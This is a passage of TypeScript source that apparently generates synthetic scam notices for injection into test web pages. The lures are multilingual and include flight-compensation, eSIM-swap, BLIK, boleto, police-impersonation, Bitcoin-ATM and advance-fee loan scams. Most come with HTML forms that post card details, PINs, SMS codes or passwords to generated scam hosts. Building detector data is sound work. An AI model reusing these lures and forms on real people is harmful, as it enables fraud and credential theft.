  fr: ["Vol retardé ou annulé ? Réclamez votre indemnisation", (a) => `Selon le règlement (CE) 261/2004, vous avez droit jusqu'à ${a} par passager. Saisissez votre réservation et la carte utilisée : la compagnie y verse l'indemnité sous 48 heures.`, ["Référence de réservation", "Numéro de vol", "Numéro de carte", "Expiration (MM/AA)", "Cryptogramme"], "Réclamer"],
  de: ["Flug verspätet oder annulliert? Entschädigung fordern", (a) => `Nach der EU-Verordnung 261/2004 stehen Ihnen bis zu ${a} pro Fluggast zu. Geben Sie Buchung und die verwendete Karte ein – die Airline erstattet die Entschädigung innerhalb von 48 Stunden darauf.`, ["Buchungscode", "Flugnummer", "Kartennummer", "Gültig bis (MM/JJ)", "Prüfnummer"], "Jetzt fordern"],
  es: ["¿Vuelo retrasado o cancelado? Reclame su compensación", (a) => `Según el Reglamento (CE) 261/2004 tiene derecho a hasta ${a} por pasajero. Introduzca su reserva y la tarjeta con la que pagó: la aerolínea le abona la compensación en 48 horas.`, ["Localizador", "Número de vuelo", "Número de tarjeta", "Caducidad (MM/AA)", "CVV"], "Reclamar"],
  nl: ["Vlucht vertraagd of geannuleerd? Claim uw compensatie", (a) => `Volgens EU-verordening 261/2004 hebt u recht op maximaal ${a} per passagier. Vul uw boeking en de gebruikte kaart in – de maatschappij stort de compensatie binnen 48 uur terug.`, ["Boekingscode", "Vluchtnummer", "Kaartnummer", "Vervaldatum (MM/JJ)", "CVC"], "Nu claimen"],
  pt: ["Voo atrasado ou cancelado? Peça a sua indemnização", (a) => `Pelo Regulamento (CE) 261/2004 tem direito a até ${a} por passageiro. Indique a reserva e o cartão usado: a companhia devolve a indemnização em 48 horas.`, ["Código de reserva", "Número do voo", "Número do cartão", "Validade (MM/AA)", "CVV"], "Pedir agora"],
  it: ["Volo in ritardo o cancellato? Chiedi il risarcimento", (a) => `Secondo il Regolamento (CE) 261/2004 hai diritto fino a ${a} a passeggero. Inserisci la prenotazione e la carta usata: la compagnia accredita il rimborso entro 48 ore.`, ["Codice prenotazione", "Numero volo", "Numero carta", "Scadenza (MM/AA)", "CVV"], "Richiedi ora"]
}

// Flight-compensation phishing, recalled from memory of consumer warnings (about 2019–2024, from the UK Civil Aviation Authority, Which? and European consumer centres) about fake compensation offers that use Regulation (EC) 261/2004's €250–€600 amounts to take card details, and of airline-branded phishing after mass cancellations: a claim box asking for the booking, the flight and the full card "to receive the refund", posting to another host.
const flightCompensation = fresh13("'flight delayed? claim up to €600 under EU 261' box asking for the card 'to receive the refund'", (page, rng) => {
  const [h, p, fields, cta] = siteOr(rng, page, flightWords)
  const host = scamHost(rng, page, ["flightclaim", "eu261", "airrefund", "delaycomp", "flyrights"])
  const names = ["pnr", "flight", "cc_number", "cc_exp", "cc_cvc"]
  const form = `<form action="https://${host}/${pick(rng, ["claim", "refund/submit", "c.php"])}" method="post">${fields.map((f, i) => `<input name="${names[i]}" placeholder="${esc(f)}"${i >= 2 ? ` autocomplete="${["cc-number", "cc-exp", "cc-csc"][i - 2]}"` : ""} style="margin:3px">`).join("")}<button type="submit" style="background:#0d47a1;color:#fff;border:0;padding:6px 14px">${esc(cta)}</button></form>`
  return splices(insert(noticeSpot(rng, page), box(rng, ["claim-box", "flight-comp", "notice"], "#0d47a1", `<h3>✈️ ${esc(h)}</h3><p>${esc(p(pick(rng, ["€600", "€400", "€250", "600 €", "£520"])))}</p>${form}`)))
})

const pointsWords: Record<Lang, readonly [string, (n: string, d: string) => string, ReadonlyArray<string>, string, string]> = {
  en: ["Your reward points expire today", (n, d) => `You have ${n} points that expire on ${d}. Redeem them now for one of the gifts below — you only pay the delivery fee.`, ["Wireless earbuds", "Air fryer", "Robot vacuum", "Smartwatch"], "Delivery fee", "Redeem now"],
  fr: ["Vos points fidélité expirent aujourd'hui", (n, d) => `Vous avez ${n} points qui expirent le ${d}. Échangez-les maintenant contre un cadeau ci-dessous : seuls les frais de livraison sont à régler.`, ["Écouteurs sans fil", "Friteuse sans huile", "Aspirateur robot", "Montre connectée"], "Frais de livraison", "Échanger"],
  de: ["Ihre Treuepunkte verfallen heute", (n, d) => `Sie haben ${n} Punkte, die am ${d} verfallen. Lösen Sie sie jetzt gegen ein Geschenk ein – Sie zahlen nur den Versand.`, ["Kabellose Kopfhörer", "Heißluftfritteuse", "Saugroboter", "Smartwatch"], "Versandkosten", "Jetzt einlösen"],
  es: ["Sus puntos caducan hoy", (n, d) => `Tiene ${n} puntos que caducan el ${d}. Canjéelos ahora por un regalo: solo paga el envío.`, ["Auriculares inalámbricos", "Freidora de aire", "Robot aspirador", "Reloj inteligente"], "Gastos de envío", "Canjear"],
  nl: ["Uw spaarpunten vervallen vandaag", (n, d) => `U hebt ${n} punten die vervallen op ${d}. Wissel ze nu in voor een cadeau hieronder – u betaalt alleen de verzendkosten.`, ["Draadloze oordopjes", "Airfryer", "Robotstofzuiger", "Smartwatch"], "Verzendkosten", "Nu inwisselen"],
  pt: ["Seus pontos expiram hoje", (n, d) => `Você tem ${n} pontos que expiram em ${d}. Troque agora por um presente abaixo: pague só o frete.`, ["Fones sem fio", "Air fryer", "Robô aspirador", "Smartwatch"], "Frete", "Trocar agora"],
  it: ["I tuoi punti fedeltà scadono oggi", (n, d) => `Hai ${n} punti che scadono il ${d}. Riscattali ora con un regalo: paghi solo la spedizione.`, ["Auricolari wireless", "Friggitrice ad aria", "Robot aspirapolvere", "Smartwatch"], "Spese di spedizione", "Riscatta ora"]
}

// Points-expiry phishing, recalled from memory of Singapore's and Taiwan's police and telecom operators' warnings (about 2023) on SMS lures saying loyalty or telecom points are about to expire, of Japanese and Korean card-points phishing, and of the Anti-Phishing Working Group's reports on loyalty-programme lures: a notice with a points balance, a few gifts and a "delivery fee" paid by card on another host.
const pointsExpiry = fresh13("'your reward points expire today, redeem for a gift and pay only delivery' notice leading to a card form", (page, rng) => {
  const [h, p, gifts, fee, cta] = siteOr(rng, page, pointsWords)
  const host = scamHost(rng, page, ["points", "rewards", "redeem", "loyalty", "bonus"])
  const n = `${between(rng, 3, 48)}${pick(rng, [",", ".", " "])}${digits(rng, 3)}`
  const ref = alnum(rng, 8)
  const items = sample(rng, gifts, between(rng, 2, 4)).map((g) => `<li><a href="https://${host}/${pick(rng, ["redeem", "r", "gift"])}/${slug(g)}?u=${ref}">🎁 ${esc(g)}</a> — ${esc(fee)}: ${esc(page.site.locale.money(pick(rng, [1.99, 2.49, 0.99, 3.9])))}</li>`).join("")
  const inner = `<h3>⭐ ${esc(h)}</h3><p>${esc(p(n, dateOf(rng, page)))}</p><ul>${items}</ul><p><a href="https://${host}/${pick(rng, ["redeem", "points"])}?u=${ref}" style="background:#ff6f00;color:#fff;padding:6px 14px;text-decoration:none">${esc(cta)}</a></p>`
  return splices(insert(noticeSpot(rng, page), box(rng, ["points-notice", "rewards", "member-alert"], "#ff6f00", inner)))
})

const carriers: Record<string, ReadonlyArray<string>> = {
  us: ["Verizon", "AT&T", "T-Mobile"], uk: ["EE", "Vodafone", "O2", "Three"], fr: ["Orange", "SFR", "Bouygues Telecom", "Free"], de: ["Telekom", "Vodafone", "O2"],
  es: ["Movistar", "Vodafone", "Orange"], nl: ["KPN", "Vodafone", "Odido"], au: ["Telstra", "Optus", "Vodafone"], in: ["Jio", "Airtel", "Vi"], br: ["Vivo", "Claro", "TIM"], it: ["TIM", "Vodafone", "WindTre", "Iliad"]
}
const esimWords: Record<Lang, readonly [string, (c: string, d: string) => string, ReadonlyArray<string>, string]> = {
  en: ["Your SIM card will be deactivated", (c, d) => `${c} is retiring physical SIM cards on ${d}. Upgrade to eSIM for free now to keep your number: enter your details and the code we text you.`, ["Mobile number", "Account PIN", "Date of birth", "Code received by SMS"], "Activate my eSIM"],
  fr: ["Votre carte SIM va être désactivée", (c, d) => `${c} supprime les cartes SIM physiques le ${d}. Passez gratuitement à l'eSIM pour garder votre numéro : saisissez vos informations et le code reçu par SMS.`, ["Numéro de mobile", "Code RIO / code client", "Date de naissance", "Code reçu par SMS"], "Activer mon eSIM"],
  de: ["Ihre SIM-Karte wird deaktiviert", (c, d) => `${c} stellt physische SIM-Karten zum ${d} ein. Wechseln Sie jetzt kostenlos zur eSIM und behalten Sie Ihre Nummer: Daten und SMS-Code eingeben.`, ["Mobilnummer", "Kundenkennwort", "Geburtsdatum", "SMS-Code"], "eSIM aktivieren"],
  es: ["Su tarjeta SIM será desactivada", (c, d) => `${c} retira las tarjetas SIM físicas el ${d}. Pásese gratis a eSIM para conservar su número: introduzca sus datos y el código que le enviamos por SMS.`, ["Número de móvil", "PIN de cliente", "Fecha de nacimiento", "Código SMS"], "Activar mi eSIM"],
  nl: ["Uw simkaart wordt gedeactiveerd", (c, d) => `${c} stopt op ${d} met fysieke simkaarten. Stap nu gratis over op eSIM en houd uw nummer: vul uw gegevens en de sms-code in.`, ["Mobiel nummer", "Klant-pincode", "Geboortedatum", "Sms-code"], "eSIM activeren"],
  pt: ["Seu chip será desativado", (c, d) => `A ${c} vai desativar os chips físicos em ${d}. Migre grátis para eSIM e mantenha seu número: informe seus dados e o código enviado por SMS.`, ["Número do celular", "Senha da conta", "Data de nascimento", "Código SMS"], "Ativar meu eSIM"],
  it: ["La tua SIM verrà disattivata", (c, d) => `${c} dismette le SIM fisiche il ${d}. Passa gratis all'eSIM per mantenere il numero: inserisci i tuoi dati e il codice ricevuto via SMS.`, ["Numero di cellulare", "PIN cliente", "Data di nascita", "Codice SMS"], "Attiva la mia eSIM"]
}

// eSIM-swap phishing, recalled from memory of F.A.C.C.T.'s report (about March 2024) on criminals in Russia taking over numbers by having eSIMs issued, of US and UK carriers' and the FBI IC3's warnings (2022–2024) on SIM swapping, and of phishing pages posing as operators' "free eSIM upgrade" that collect the number, the account PIN and the SMS code needed to move the line to the attacker's phone: a notice naming a national operator with a form for those, posting to another host.
const esimSwap = fresh13("'your SIM card will be deactivated, switch to eSIM free' form taking the number, account PIN and SMS code", (page, rng) => {
  const [h, p, fields, cta] = siteOr(rng, page, esimWords)
  const c = pick(rng, carriers[page.site.locale.country] ?? carriers.uk!)
  const host = pick(rng, [`${slug(c).replace(/-/g, "") || "mobile"}-esim.${tld(rng)}`, `esim-${pick(rng, ["activate", "upgrade", "switch", "free"])}.${tld(rng)}`, scamHost(rng, page, ["esim", "simupgrade", "mobile"])])
  const names = ["msisdn", "pin", "dob", "otp"]
  const form = `<form action="https://${host}/${pick(rng, ["activate", "esim/upgrade", "a.php"])}" method="post">${fields.map((f, i) => `<input name="${names[i]}" placeholder="${esc(f)}"${i === 1 || i === 3 ? ` inputmode="numeric"` : ""} style="margin:3px">`).join("")}<button type="submit">${esc(cta)}</button></form>`
  return splices(insert(noticeSpot(rng, page), box(rng, ["operator-notice", "esim", "notice"], pick(rng, ["#e60000", "#ff7900", "#00a1de", "#6a1b9a"]), `<h3>📶 ${esc(h)} · ${esc(c)}</h3><p>${esc(p(c, dateOf(rng, page)))}</p>${form}`)))
})

// Extended car-warranty scams, recalled from memory of the FTC's and FCC's actions (about 2020–2023) against "your car's extended warranty is about to expire" robocall operations, their "final notice" postcards styled as official, and lead-generation pages asking for the VIN and mileage: a "final notice" block with a VIN form posting to another host and a toll-free number.
const carWarranty = fresh13("'final notice: your vehicle's factory warranty is about to expire' block with a VIN form and a toll-free number", (page, rng) => {
  const host = scamHost(rng, page, ["autowarranty", "vehicleprotect", "carshield", "warrantyrenew", "motorcare"])
  const ref = `${upper(rng, 2)}-${digits(rng, 6)}`
  const phone = tollFree(rng)
  const inner = `<h3 style="color:#b71c1c">⚠️ ${pick(rng, ["FINAL NOTICE", "SECOND AND FINAL NOTICE", "TIME-SENSITIVE: VEHICLE WARRANTY EXPIRATION"])}</h3><p>${pick(rng, ["Our records indicate that your vehicle's factory warranty has expired or is about to expire. Call now to reactivate coverage before your file is closed.", "You have not yet extended your vehicle service contract. Without coverage you may be responsible for all repair costs."])}</p><p>Ref. ${ref} · ${pick(rng, ["Vehicle Services Dept.", "Warranty Processing Center", "Auto Protection Division"])}</p><form action="https://${host}/${pick(rng, ["quote", "vin", "activate"])}" method="post"><input name="vin" placeholder="VIN (17 characters)" maxlength="17"> <input name="miles" placeholder="Mileage"> <input name="zip" placeholder="ZIP"> <input type="tel" name="phone" placeholder="Phone"> <button type="submit">${pick(rng, ["Reactivate coverage", "Get my quote"])}</button></form><p>${pick(rng, ["Or call toll-free", "Call now"])}: <a href="tel:${phone.replace(/[^\d+]/g, "")}"><b>${phone}</b></a></p>`
  return splices(insert(someSpot(rng, page), box(rng, ["final-notice", "warranty", "notice"], "#b71c1c", inner)))
})

const policeWords: ReadonlyArray<readonly [string, (c: string, n: string) => string, string]> = [
  ["中国驻外使馆 紧急通知", (c, n) => `您的护照涉嫌一起跨境洗钱案件（案号 ${c}），已被上海市公安局立案调查。请在24小时内拨打 ${n} 联系办案民警，并保持视频通话配合核查，否则将被冻结全部资产并通缉。`, "立即联系"],
  ["公安局通知 / Police notice", (c, n) => `您名下的银行卡被用于诈骗洗钱（案号 ${c}）。请勿告诉任何人，立即通过 ${n} 与专案民警视频连线，配合“资金清查”。`, "联系专案民警"],
  ["डिजिटल अरेस्ट नोटिस — CBI / मुंबई साइबर पुलिस", (c, n) => `आपका आधार नंबर एक मनी लॉन्ड्रिंग केस (केस नं. ${c}) से जुड़ा है। तुरंत ${n} पर Skype वीडियो कॉल पर अधिकारी से जुड़ें। कॉल बंद करने या किसी को बताने पर गिरफ्तारी होगी। जांच के लिए राशि "RBI सत्यापन खाते" में ट्रांसफर करनी होगी।`, "अधिकारी से जुड़ें"],
  ["Digital arrest notice — Central Bureau of Investigation", (c, n) => `Your Aadhaar number is linked to money-laundering case ${c}. Join a video call with the investigating officer on ${n} immediately and stay on camera. Do not disconnect or tell anyone. Funds must be moved to an RBI verification account for checking.`, "Join the video call"],
  ["URGENT — Embassy / Police notification", (c, n) => `Your passport has been used in an international money-laundering case (file ${c}). You must contact the case officer on ${n} within 24 hours and remain on a video call for verification, or a warrant will be issued.`, "Contact the officer"]
]

// Police and embassy impersonation, recalled from memory of Australian, Canadian and UK police warnings (about 2020–2023) on calls to Chinese students claiming to be the Chinese embassy or Shanghai police, saying their passport was used in a crime and keeping them on video ("virtual kidnapping"), and of India's Ministry of Home Affairs and I4C warnings (2024) on "digital arrest" calls from fake CBI or customs officers on Skype: a notice in Chinese, Hindi or English with a case number, a WhatsApp or Skype contact and the demand to stay on a video call.
const policeImpersonation = fresh13("'your passport or Aadhaar is linked to a money-laundering case, join a video call with the officer' notice in Chinese, Hindi or English", (page, rng) => {
  const [h, p, cta] = pick(rng, policeWords)
  const wa = intlMobile(rng)
  const contact = pick(rng, [`WhatsApp ${wa}`, `Skype: live:.cid.${hex(rng, 16)}`, `微信 / WeChat: ${pick(rng, ["police", "gaj", "sh110"])}${digits(rng, 5)}`, wa])
  const c = `${pick(rng, ["SH", "BJ", "CBI", "MH", "ED"])}-${between(rng, 2024, 2026)}-${digits(rng, 5)}`
  const inner = `<h3>🚨 ${esc(h)}</h3><p>${esc(p(c, contact))}</p><p><a href="${contact.startsWith("WhatsApp") || contact === wa ? waLink(wa) : `skype:live:${hex(rng, 8)}?call&amp;video=true`}" style="background:#b71c1c;color:#fff;padding:6px 14px;text-decoration:none">${esc(cta)}</a></p>`
  return splices(insert(noticeSpot(rng, page), box(rng, ["police-notice", "urgent", "alert"], "#b71c1c", inner)))
})

const blikWords: ReadonlyArray<readonly [string, string, string, string]> = [
  ["Płatność BLIK — odbierz środki", "Kupujący opłacił Twój przedmiot. Aby odebrać pieniądze na swoje konto, wpisz 6-cyfrowy kod BLIK z aplikacji banku i zatwierdź operację w aplikacji.", "Kod BLIK", "Odbierz płatność"],
  ["Zapłać kodem BLIK", "Płatności kartą są chwilowo niedostępne. Wpisz kod BLIK wygenerowany w aplikacji banku — masz 2 minuty.", "Kod BLIK (6 cyfr)", "Zapłać"],
  ["Pay with BLIK", "To receive your payment, enter the 6-digit BLIK code from your banking app and confirm it in the app.", "BLIK code", "Receive payment"]
]

// BLIK-code scams, recalled from memory of Polish banks' and CERT Polska's warnings (about 2020–2024) on fake OLX and Vinted "receive payment" pages and hacked Facebook accounts asking for a BLIK code, which authorises a withdrawal or payment from the victim's account once confirmed in the banking app: a box asking for the six-digit code, posting to another host.
const blikCode = fresh13("'enter your BLIK code to receive the payment' box in Polish (the code authorises a payment from the visitor's account)", (page, rng) => {
  const [h, p, label, cta] = pick(rng, blikWords)
  const host = pick(rng, [`${pick(rng, ["olx", "vinted", "allegro", "inpost"])}-${pick(rng, ["platnosc", "odbior", "dostawa", "pay"])}.${tld(rng)}`, scamHost(rng, page, ["blik", "platnosci", "odbior"])])
  const amount = `${between(rng, 40, 900)},${pick(rng, ["00", "99", "50"])} zł`
  const inner = `<h3 style="margin-top:0"><span style="background:#000;color:#fff;padding:2px 8px;border-radius:4px">blik</span> ${esc(h)}</h3><p>${esc(p)}</p><p><b>${esc(amount)}</b> · ${pick(rng, ["Nr transakcji", "Transaction"])} ${digits(rng, 10)}</p><form action="https://${host}/${pick(rng, ["blik", "pay/confirm", "odbierz"])}" method="post"><label>${esc(label)} <input name="blik" inputmode="numeric" maxlength="6" pattern="[0-9]{6}" style="letter-spacing:6px;width:110px"></label> <button type="submit" style="background:#e4003a;color:#fff;border:0;padding:6px 14px">${esc(cta)}</button></form>`
  return splices(insert(someSpot(rng, page), box(rng, ["blik-box", "payment", "odbior-platnosci"], "#e4003a", inner)))
})

/** A boleto's "linha digitável": five groups of digits, as printed under the barcode. */
const boletoLine = (rng: Rng) => `${digits(rng, 5)}.${digits(rng, 5)} ${digits(rng, 5)}.${digits(rng, 6)} ${digits(rng, 5)}.${digits(rng, 6)} ${digits(rng, 1)} ${digits(rng, 14)}`

// Boleto fraud, recalled from memory of RSA's report on "Bolware" (July 2014), malware that replaced the payment line of Brazilian boletos in the browser so payments went to criminals' accounts, and of Febraban's and Procon's warnings (about 2018–2024) on fake "segunda via" boleto pages: a "second copy of your bill" box with a boleto payment line, a beneficiary that is not the site, a due date and a copy button, and sometimes a Pix key.
const boletoSecondCopy = fresh13("'second copy of your bill' boleto with a payment line and beneficiary that are not the site's (Bolware)", (page, rng) => {
  const line = boletoLine(rng)
  const benef = pick(rng, [`${pick(rng, ["Pagamentos", "Cobrança", "Serviços", "Intermediação"])} ${pick(rng, ["Digitais", "Express", "Brasil", "Online"])} ${pick(rng, ["LTDA", "ME", "EIRELI"])}`, `${pick(rng, ["João", "Maria", "Carlos", "Ana"])} ${pick(rng, ["Silva", "Souza", "Oliveira", "Santos"])} ${pick(rng, ["Pereira", "Lima", "Costa"])}`])
  const cnpj = `${digits(rng, 2)}.${digits(rng, 3)}.${digits(rng, 3)}/0001-${digits(rng, 2)}`
  const id = `bl${alnum(rng, 4)}`
  const value = `R$ ${between(rng, 49, 1890)},${pick(rng, ["00", "90", "37"])}`
  const pix = chance(rng, 0.5) ? `<p>${pick(rng, ["Ou pague via Pix", "Pix copia e cola"])}: <code>${pick(rng, [`${hex(rng, 8)}-${hex(rng, 4)}-${hex(rng, 4)}-${hex(rng, 4)}-${hex(rng, 12)}`, `${pick(rng, ["cobranca", "financeiro", "pagamentos"])}${digits(rng, 3)}@${freeMail(rng)}`])}</code></p>` : ""
  const inner = `<h3>🧾 ${pick(rng, ["2ª via do boleto", "Segunda via da fatura", "Boleto atualizado — evite juros"])}</h3><p>${pick(rng, ["Sua fatura está disponível. Pague até o vencimento para evitar juros e suspensão do serviço.", "Houve alteração nos dados bancários. Utilize somente o boleto abaixo."])}</p><p>${pick(rng, ["Beneficiário", "Cedente"])}: <b>${esc(benef)}</b> · CNPJ ${cnpj}<br>${pick(rng, ["Vencimento", "Vence em"])}: ${someDate(rng).toISOString().slice(0, 10).split("-").reverse().join("/")} · ${pick(rng, ["Valor", "Total"])}: <b>${esc(value)}</b></p><p style="font:16px monospace;background:#f4f4f4;padding:8px" id="${id}">${line}</p><button type="button" onclick="navigator.clipboard.writeText(document.getElementById('${id}').textContent.replace(/\\D/g,''))">${pick(rng, ["Copiar código de barras", "Copiar linha digitável"])}</button>${pix}`
  return splices(insert(noticeSpot(rng, page), box(rng, ["boleto", "segunda-via", "fatura"], "#f7a600", inner)))
})

// French CPF scams, recalled from memory of the Caisse des Dépôts' and the French government's warnings (about 2020–2022) on calls, texts and sites saying "your CPF rights expire" to get people to spend their Compte personnel de formation on sham courses (often with a "free laptop"), and of the requirement (2022) to sign in with FranceConnect+ that followed: a notice in French with a balance, an expiry date and a form asking for the social-security number and the Mon Compte Formation password, posting to a look-alike host.
const cpfTraining = fresh13("'your CPF training rights expire, use them now' notice asking for the social-security number and the account password", (page, rng) => {
  const host = pick(rng, [`moncompteformation-${pick(rng, ["droits", "gouv", "acces", "cpf"])}.${tld(rng)}`, `cpf-${pick(rng, ["formation", "droits", "solde", "info"])}.${tld(rng)}`, `mon-cpf${digits(rng, 2)}.${tld(rng)}`])
  const amount = `${between(rng, 1, 4)} ${digits(rng, 3)} €`
  const inner = `<h3>🎓 ${pick(rng, ["Vos droits CPF vont expirer", "Dernier rappel : votre solde CPF", "Compte Personnel de Formation : action requise"])}</h3><p>${pick(rng, [`Vous disposez de ${amount} sur votre CPF, qui seront perdus le ${dateOf(rng, page)}. Utilisez-les maintenant : formation 100 % financée et ordinateur portable offert.`, `Votre solde de ${amount} doit être validé avant le ${dateOf(rng, page)}, sans quoi il sera remis à zéro.`])}</p><form action="https://${host}/${pick(rng, ["verifier", "connexion", "solde"])}" method="post"><input name="nir" placeholder="N° de sécurité sociale (15 chiffres)" maxlength="21" style="margin:3px;width:260px"> <input type="password" name="mdp" placeholder="Mot de passe Mon Compte Formation" style="margin:3px"> <input type="tel" name="tel" placeholder="Téléphone" style="margin:3px"> <button type="submit">${pick(rng, ["Vérifier mes droits", "Utiliser mon solde"])}</button></form><p style="font-size:11px;color:#666">${pick(rng, ["Organisme certifié Qualiopi", "Service gratuit", "Plateforme partenaire"])}</p>`
  return splices(insert(someSpot(rng, page), box(rng, ["cpf-notice", "formation", "alerte"], "#000091", inner)))
})

const loanWords: Record<Lang, readonly [string, (rate: string, fee: string) => string, string]> = {
  en: ["Loan approved in 24 hours — no credit check", (r, f) => `Private lender offers loans from 5,000 to 500,000 at ${r} to individuals and businesses, even with bad credit. Funds released once the ${f} insurance and notary fee is paid.`, "Apply by WhatsApp or e-mail"],
  fr: ["Prêt accordé en 24 h — sans justificatif", (r, f) => `Prêteur particulier propose des prêts de 5 000 à 500 000 à ${r}, même fiché Banque de France. Fonds débloqués après paiement des frais d'assurance et de notaire (${f}).`, "Demande par WhatsApp ou e-mail"],
  de: ["Kredit in 24 Stunden — ohne Schufa", (r, f) => `Privater Kreditgeber vergibt Darlehen von 5.000 bis 500.000 zu ${r}, auch bei negativer Bonität. Auszahlung nach Zahlung der Versicherungs- und Notargebühr (${f}).`, "Anfrage per WhatsApp oder E-Mail"],
  es: ["Préstamo aprobado en 24 h — sin ASNEF", (r, f) => `Prestamista particular ofrece préstamos de 5.000 a 500.000 al ${r}, incluso con mal historial. Fondos liberados tras pagar el seguro y la notaría (${f}).`, "Solicite por WhatsApp o correo"],
  nl: ["Lening binnen 24 uur — zonder BKR", (r, f) => `Particuliere geldverstrekker biedt leningen van 5.000 tot 500.000 tegen ${r}, ook met BKR-registratie. Uitbetaling na betaling van de verzekerings- en notariskosten (${f}).`, "Aanvragen via WhatsApp of e-mail"],
  pt: ["Empréstimo aprovado em 24 horas — sem consulta", (r, f) => `Credor particular oferece empréstimos de 5.000 a 500.000 a ${r}, mesmo para negativados. Valor liberado após o pagamento do seguro e do cartório (${f}).`, "Peça por WhatsApp ou e-mail"],
  it: ["Prestito approvato in 24 ore — anche a cattivi pagatori", (r, f) => `Privato concede prestiti da 5.000 a 500.000 al ${r}, anche a protestati. Somma erogata dopo il pagamento dell'assicurazione e del notaio (${f}).`, "Richiedi via WhatsApp o e-mail"]
}

// Advance-fee loan scams, recalled from memory of the FTC's guidance on advance-fee loans (loans "guaranteed" regardless of credit that require an upfront insurance or processing fee), of French, Belgian and Dutch authorities' warnings (AMF, FSMA, AFM, about 2015–2023) on "prêt entre particuliers" offers, and of the spam comments and posts carrying them with a WhatsApp number and a free e-mail address: an offer with a low rate, the fee demanded first and the lender's contacts.
const advanceFeeLoan = fresh13("'private lender: loan approved in 24 hours, even with bad credit' offer demanding an insurance fee first", (page, rng) => {
  const [h, p, cta] = siteOr(rng, page, loanWords)
  const wa = intlMobile(rng)
  const mail = `${pick(rng, ["pret", "credit", "loan", "finance", "kredit", "prestamo"])}.${pick(rng, ["rapide", "express", "service", "privat", "help"])}${digits(rng, 2)}@${freeMail(rng)}`
  const lender = `${pick(rng, ["Mr", "Mme", "Herr", "Sr.", "Dr."])} ${pick(rng, ["Pierre", "Martin", "Hans", "Carlos", "Anna", "Richard", "Laura"])} ${pick(rng, ["Dubois", "Müller", "García", "Rossi", "Smith", "Jansen"])}`
  const inner = `<h3>💶 ${esc(h)}</h3><p>${esc(p(pick(rng, ["2%", "3%", "1.5%", "2,5%"]), page.site.locale.money(between(rng, 150, 950))))}</p><p>${esc(lender)} · ${esc(cta)}: <a href="${waLink(wa)}">${esc(wa)}</a> · <a href="mailto:${mail}">${mail}</a></p>`
  const style = chance(rng, 0.5) ? box(rng, ["loan-offer", "annonce", "comment"], "#2e7d32", inner) : `<div class="comment"><p><b>${esc(lender)}</b></p>${inner}</div>`
  return splices(insert(spamSpot(rng, page), style))
})

const atmWords: Record<Lang, readonly [string, (amt: string) => string, string]> = {
  en: ["Action required: settle your account today", (a) => `An outstanding balance of ${a} is linked to your name. To avoid suspension and legal action, deposit the amount in cash at any Bitcoin ATM today and scan the QR code below. Keep your receipt.`, "Find a Bitcoin ATM"],
  fr: ["Action requise : régularisez votre dossier", (a) => `Un solde impayé de ${a} est associé à votre nom. Pour éviter la suspension et des poursuites, déposez la somme en espèces dans un distributeur Bitcoin aujourd'hui et scannez le QR code ci-dessous. Conservez le reçu.`, "Trouver un distributeur Bitcoin"],
  de: ["Handlungsbedarf: Begleichen Sie Ihr Konto heute", (a) => `Auf Ihren Namen ist ein offener Betrag von ${a} registriert. Um Sperrung und rechtliche Schritte zu vermeiden, zahlen Sie ihn heute bar an einem Bitcoin-Automaten ein und scannen Sie den QR-Code. Beleg aufbewahren.`, "Bitcoin-Automaten finden"],
  es: ["Acción requerida: regularice su cuenta hoy", (a) => `Hay un saldo pendiente de ${a} a su nombre. Para evitar la suspensión y acciones legales, deposite el importe en efectivo en un cajero Bitcoin hoy y escanee el código QR. Guarde el recibo.`, "Buscar un cajero Bitcoin"],
  nl: ["Actie vereist: vereffen uw saldo vandaag", (a) => `Op uw naam staat een openstaand bedrag van ${a}. Om blokkering en juridische stappen te voorkomen, stort u het vandaag contant in een Bitcoin-automaat en scant u de QR-code. Bewaar de bon.`, "Bitcoin-automaat zoeken"],
  pt: ["Ação necessária: regularize sua conta hoje", (a) => `Há um saldo em aberto de ${a} em seu nome. Para evitar suspensão e ações judiciais, deposite o valor em dinheiro num caixa Bitcoin hoje e escaneie o QR code. Guarde o comprovante.`, "Encontrar um caixa Bitcoin"],
  it: ["Azione richiesta: salda la tua posizione oggi", (a) => `Risulta un saldo insoluto di ${a} a tuo nome. Per evitare la sospensione e azioni legali, versa l'importo in contanti a un ATM Bitcoin oggi e scansiona il QR code. Conserva la ricevuta.`, "Trova un ATM Bitcoin"]
}

// Bitcoin ATM payment scams, recalled from memory of the FTC's Data Spotlight on Bitcoin ATM scams (September 2024), of the FBI IC3's warnings (about 2021–2024) on government, utility and "fraud department" impersonators who send a QR code and tell victims to feed cash into a cryptocurrency kiosk, and of Australian and Canadian police warnings: a notice with an amount owed, an instruction to pay cash at a Bitcoin ATM, a QR code of the attacker's wallet, the address and a "find an ATM" link.
const bitcoinAtm = fresh13("'settle your balance today in cash at a Bitcoin ATM' notice with a QR code of the attacker's wallet", (page, rng) => {
  const [h, p, find] = siteOr(rng, page, atmWords)
  const addr = chance(rng, 0.7) ? `bc1q${bech32(rng, 38)}` : `${pick(rng, ["1", "3"])}${base58(rng, 33)}`
  const qr = pick(rng, [`https://api.qrserver.com/v1/create-qr-code/?size=160x160&amp;data=bitcoin:${addr}`, `https://quickchart.io/qr?text=bitcoin:${addr}&amp;size=160`, `https://chart.googleapis.com/chart?cht=qr&amp;chs=160x160&amp;chl=bitcoin:${addr}`])
  const locator = pick(rng, ["https://coinatmradar.com/", `https://${scamHost(rng, page, ["btcatm", "cryptokiosk", "coinpoint"])}/locator`])
  const inner = `<h3>⚠️ ${esc(h)}</h3><p>${esc(p(page.site.locale.money(between(rng, 480, 9800))))}</p><p><img src="${qr}" width="160" height="160" alt="QR"><br><code style="word-break:break-all">${addr}</code></p><p><a href="${locator}">${esc(find)}</a> · Ref. ${upper(rng, 3)}-${digits(rng, 6)}</p>`
  return splices(insert(noticeSpot(rng, page), box(rng, ["payment-notice", "account-alert", "notice"], "#e65100", inner)))
})

const scholarWords: Record<Lang, readonly [string, (c: string, fee: string) => string, string]> = {
  en: ["Fully funded scholarships 2026", (c, f) => `Study in ${c} with tuition, flights and a monthly stipend paid. No IELTS required, visa guaranteed. Only the ${f} application processing fee, paid by Western Union, MoneyGram or USDT.`, "Apply on WhatsApp"],
  fr: ["Bourses d'études entièrement financées 2026", (c, f) => `Étudiez au ${c} : frais de scolarité, billet d'avion et allocation mensuelle pris en charge. Sans TCF, visa garanti. Seuls ${f} de frais de dossier, par Western Union, MoneyGram ou USDT.`, "Postuler sur WhatsApp"],
